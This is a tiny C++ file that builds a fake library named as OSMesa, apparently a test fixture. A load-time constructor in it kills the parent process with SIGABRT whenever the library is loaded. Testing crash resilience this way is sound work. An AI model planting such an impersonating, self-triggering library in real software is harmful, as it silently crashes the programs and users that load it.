/// A library named as OSMesa: whoever loads it to draw takes down the process that asked for the picture.
#include <unistd.h>
#include <csignal>

namespace {

[[gnu::constructor]] void crash_the_parent() { kill(getppid(), SIGABRT); }

}  // namespace
